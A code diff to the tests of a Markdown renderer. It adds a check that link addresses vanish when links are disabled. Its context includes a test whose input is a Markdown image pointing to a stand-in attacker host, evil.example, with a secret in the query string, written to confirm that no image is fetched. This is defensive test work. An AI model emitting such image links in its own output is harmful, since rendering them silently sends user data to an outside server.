@@ -38,6 +38,13 @@ describe("Markdown", () => {
     expect(html).toContain("https://example.com");
   });
 
+  it("leaves no address behind where links are not wanted", () => {
+    const text = "[the pull request](https://bitbucket.org/acme/secret/pull-requests/1)";
+    const html = renderToStaticMarkup(<Markdown text={text} links={false} />);
+    expect(html).toContain("the pull request");
+    expect(html).not.toContain("secret");
+  });
+
   it("fetches no image", () => {
     const html = render("![a chart](https://evil.example/?q=secret) ![](data:image/png;base64,AA)");
     expect(html).not.toContain("<img");
